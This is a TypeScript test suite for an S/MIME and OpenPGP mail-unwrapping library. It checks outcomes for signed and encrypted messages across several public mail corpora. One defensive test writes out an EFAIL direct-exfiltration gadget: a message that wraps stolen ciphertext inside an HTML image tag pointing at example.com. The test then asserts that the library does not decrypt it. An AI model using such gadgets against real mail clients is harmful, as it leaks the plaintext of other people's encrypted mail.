/**
 * Every file of the corpora, mail or not, is opened with everybody's keys: nothing throws, nothing takes long, what has
 * no layers comes out byte for byte, and nothing is valid that nobody signed.
 */
import assert from 'node:assert/strict'
import { existsSync, globSync, readFileSync, readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { Collector } from '../../src/base/byte-sink.ts'
import { concatBytes, utf8 } from '../../src/base/bytes.ts'
import { canonicalMail } from '../../src/cli/mail-file.ts'
import { writeFields } from '../../src/message/header-field.ts'
import { type PackedRing, type PeelReport, packKey, runPeel } from '../../src/protection/jobs.ts'
import type { SmimeCertificate } from '../../src/protection/smime/x509/certificate.ts'
import { smime } from '../../src/protection/smime/smime.ts'
import { CORPORA, everybody } from '../support/corpora.ts'
import { assertSameWhenLarge } from '../support/large.ts'
import { smimeIdentity } from '../support/smime-identity.ts'

const AT_MS = Date.UTC(2026, 0, 1)
const FILE_MS_MAX = 3000 // the machine may be busy; the slowest takes a twentieth of it

const OUTCOME_CHARS = 110

/** Thousands of single certificates, tested by their own suites. */
const NO_MAIL = ['pkits', 'pkits-smime', 'x509-limbo', 'pqc-certificates']

/** Where the mails with layers are. */
const JAMES = 'james-mail/server/mailet/integration-testing/src/main/resources/'
const KDE = 'kde-messagelib/mimetreeparser/autotests/data/'
const KDE_TOO = 'kde-mimetreeparser/autotests/testdata/'
const NOTMUCH = 'notmuch/test/corpora/'
const DRAFT = 'protected-headers-draft/'

/** All that has layers of S/MIME, by what becomes of it; OpenSSL says the same of each that it can read. */
const LAYERED: Readonly<Record<string, readonly string[]>> = {
  'enveloped-data decrypted > multipart/signed expired; expired: emailAddress=test@example.com,CN=unittest cert,O': [
    `${KDE}smime-signed-encrypted.mbox`,
    `${KDE_TOO}smime-signed-encrypted.mbox`,
  ],
  'enveloped-data decrypted > signed-data expired; expired: emailAddress=test@example.com,CN=unittest cert,O=KDAB': [
    `${KDE}smime-opaque-enc+sign.mbox`,
    `${KDE}smime-opaque-signed-encrypted-attachment.mbox`,
    `${KDE_TOO}smime-opaque-enc+sign.mbox`,
    `${KDE_TOO}smime-opaque-signed-encrypted-attachment.mbox`,
  ],
  'enveloped-data decrypted > signed-data valid; valid': [
    `${NOTMUCH}protected-headers/smime-sign+enc+legacy-disp.eml`,
    `${NOTMUCH}protected-headers/smime-sign+enc.eml`,
    `${DRAFT}smime-sign+enc+legacy-disp.eml`,
    `${DRAFT}smime-sign+enc.eml`,
  ],
  'enveloped-data decrypted; none': [
    `${JAMES}eml/crypted.eml`,
    `${JAMES}eml/crypted_with_attachment.eml`,
    `${KDE}smime-encrypted-octet-stream.mbox`,
    `${KDE}smime-encrypted.mbox`,
    `${KDE_TOO}smime-encrypted-octet-stream.mbox`,
    `${KDE_TOO}smime-encrypted.mbox`,
    `${NOTMUCH}protected-headers/smime-enc+legacy-disp.eml`,
    'openssl-cms/test/recipes/80-test_cms_data/ciphertext_from_1_1_1.cms',
    `${DRAFT}smime-enc+legacy-disp.eml`,
    'rfc4134/rfc4134/5.3.eml',
  ],
  'enveloped-data no-key; none': [
    'efail-gadgets/ciphertext_files/smime/modified_msg.eml',
    `${JAMES}eml/bad_crypted.eml`,
  ],
  'multipart/signed invalid; invalid: length too large': [
    'ruby-mail/spec/fixtures/emails/mime_emails/raw_email_with_nested_attachment.eml',
  ],
  'multipart/signed invalid; invalid: the content was changed after it was signed': [
    `${JAMES}eml/mail_with_bad_signature.eml`,
    `${KDE}smime-signed-apple.mbox`,
    `${KDE_TOO}smime-signed-apple.mbox`,
  ],
  'multipart/signed invalid; invalid: unexpected end': ['chatmail-core/test-data/message/mailinglist_dhl.eml'],
  'multipart/signed mismatch; mismatch: signed by AliceDSS@example.com, not by aliceDss@examples.com': [
    'rfc4134/rfc4134/4.8.eml',
  ],
  'multipart/signed mismatch; mismatch: the mail has no From': [
    'openssl-cms/test/smime-eml/pkcs7-empty-digest-set.eml',
  ],
  "multipart/signed unknown-key; unknown-key: the signer's certificate is neither known nor sent": [
    `${KDE_TOO}smime-signed-charset.mbox`,
  ],
  'multipart/signed untrusted; untrusted: the certificate does not lead to a trust anchor': [
    'openssl-cms/test/smime-eml/SignedInvalidMappingFromanyPolicyTest7.eml',
    'stdlib-spam/data/easy-ham-1/01353.cf72da836d8b771bea4110c8f9b5599b.txt',
  ],
  'multipart/signed valid; valid': [
    `${JAMES}smime-test-resource-set/mail_with_signature.eml`,
    `${NOTMUCH}protected-headers/smime-multipart-signed.eml`,
    `${DRAFT}smime-multipart-signed.eml`,
  ],
  'signed-data expired; expired: emailAddress=test@example.com,CN=unittest cert,O=KDAB,C=US: the certificate has ': [
    `${KDE}smime-opaque-sign.mbox`,
    `${KDE_TOO}smime-opaque-sign.mbox`,
  ],
  'signed-data invalid; invalid: ContentInfo is missing': [`${JAMES}eml/mail_with_no_signature.eml`],
  'signed-data mismatch; mismatch: signed by AliceDSS@example.com, not by aliceDss@examples.com': [
    'rfc4134/rfc4134/4.9.eml',
  ],
  'signed-data mismatch; mismatch: the mail has no From': [
    `${DRAFT}smime-sign+enc+legacy-disp.inner`,
    `${DRAFT}smime-sign+enc.inner`,
  ],
  'signed-data valid; valid': [
    `${JAMES}smime-test-resource-set/mail-with-signature-and-multi-certs.eml`,
    `${JAMES}smime-test-resource-set/mail_with_signature_and_content_type_xpkcs7mime.eml`,
    `${NOTMUCH}pkcs7/smime-onepart-signed.eml`,
    `${NOTMUCH}protected-headers/smime-onepart-signed.eml`,
    `${DRAFT}smime-onepart-signed.eml`,
  ],
}

describe('everything there is', { skip: existsSync(CORPORA) ? false : 'no corpora' }, () => {
  const ring = existsSync(CORPORA) ? everybody() : undefined

  test('is opened in time, unchanged where it has no layers, and valid only where it is known to be', (t) => {
    const layered: Record<string, string> = {}
    const slowest = { file: '', ms: 0 }
    const totals = { files: 0, errant: 0, openpgp: 0 }
    for (const file of files()) {
      const bytes = readFileSync(join(CORPORA, file))
      const mail = canonicalMail(bytes)
      const beganMs = performance.now()
      const report = opened(mail, ring as PackedRing)
      const ms = performance.now() - beganMs
      assert.ok(ms < FILE_MS_MAX, `${file} took ${ms} ms`)
      if (ms > slowest.ms) Object.assign(slowest, { file, ms })
      check(file, mail, report)
      assertSameWhenLarge(mail, ring as PackedRing, AT_MS, report, file)
      if (mail.length !== bytes.length) check(file, bytes, opened(bytes, ring as PackedRing)) // with bare line feeds
      totals.files++
      totals.errant += report.errant
      if (report.layers.some(({ standard }) => standard === 'smime')) layered[file] = told(report)
      else if (report.layers.length > 0) totals.openpgp++
    }
    const { openpgp, errant } = totals
    t.diagnostic(
      `${totals.files} files, ${Object.keys(layered).length} with layers of S/MIME, ${openpgp} of OpenPGP only, ${errant} errant layers`,
    )
    t.diagnostic(`slowest: ${slowest.file}, ${slowest.ms.toFixed(0)} ms`)
    assert.ok(totals.files > 6000 && openpgp > 140, `only ${totals.files} files, ${openpgp} of OpenPGP`)
    const expected = Object.entries(LAYERED).flatMap(([outcome, names]) => names.map((name) => [name, outcome]))
    assert.deepEqual(layered, Object.fromEntries(expected))
  })

  test('a part that was encrypted to the reader and put into somebody else’s HTML stays shut (EFAIL)', () => {
    const { certificate, key } = smimeIdentity('rsa-2048', 'reader@example.com')
    const stolen = sealedFor(certificate)
    const reader = { ...(ring as PackedRing), decryptionKeys: [packKey({ certificate, key, chain: [] })] }
    assert.match(Buffer.from(opened(stolen, reader).message ?? []).toString('latin1'), /the secret/)
    const lines = [
      'From: mallory@example.com',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=x',
      '',
      '--x',
      'Content-Type: text/html',
      '',
      '<img src="http://example.com/',
      '--x',
      `${Buffer.from(stolen).toString('latin1')}--x`,
      'Content-Type: text/html',
      '',
      '">',
      '--x--',
      '',
    ]
    const trap = Buffer.from(lines.join('\r\n'), 'latin1')
    const report = opened(trap, reader)
    assert.deepEqual([report.layers, report.errant, report.summary.signature], [[], 1, 'none'])
    assert.ok(trap.equals(report.message ?? Buffer.alloc(0)))
    const gadgets = globSync('efail-gadgets/**/*', { cwd: CORPORA }).map((name) => join(CORPORA, name))
    for (const file of gadgets.filter((name) => statSync(name).isFile())) {
      const { layers } = opened(canonicalMail(readFileSync(file)), ring as PackedRing)
      assert.ok(!layers.some((layer) => layer.verdict === 'decrypted'), file)
    }
  })
})

function sealedFor(certificate: SmimeCertificate): Uint8Array {
  const body = new Collector()
  const { fields, sink } = smime.encrypt([certificate], {}, AT_MS, body)
  sink.write(utf8('Content-Type: text/plain\r\n\r\nthe secret\r\n'))
  sink.end()
  return concatBytes([writeFields(fields), utf8('\r\n'), ...body.take(), utf8('\r\n')])
}

function check(file: string, raw: Uint8Array, report: PeelReport): void {
  const { layers, message, summary, signers } = report
  if (layers.length === 0) {
    assert.ok(message !== undefined && Buffer.from(message).equals(raw), `${file} was changed`)
    assert.partialDeepStrictEqual(summary, { encrypted: false, signature: 'none', signer: null }, file)
  }
  const signed = layers.some((layer) => layer.kind === 'signed')
  assert.equal(summary.signature === 'none' && !signed, !signed && summary.signature !== 'invalid', file)
  if (summary.signature === 'valid') assert.ok(signers.length > 0, file)
  if (summary.signature === 'invalid') assert.equal(message, undefined, `${file}: tampered, but shown`)
}

function told({ layers, summary }: PeelReport): string {
  const each = layers.map((layer) => `${layer.form} ${layer.verdict}`).join(' > ')
  const why = summary.reason === null ? '' : `: ${summary.reason}`
  return `${each}; ${summary.signature}${why}`.slice(0, OUTCOME_CHARS)
}

function opened(raw: Uint8Array, ring: PackedRing): PeelReport {
  const [report] = runPeel({ kind: 'peel', raw, atMs: AT_MS, rings: [ring] })
  assert.ok(report)
  return report
}

function files(): readonly string[] {
  return readdirSync(CORPORA, { withFileTypes: true })
    .filter((entry) => entry.isDirectory() && !NO_MAIL.includes(entry.name))
    .flatMap(({ name: folder }) =>
      readdirSync(join(CORPORA, folder), { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name).slice(CORPORA.length + 1)),
    )
}
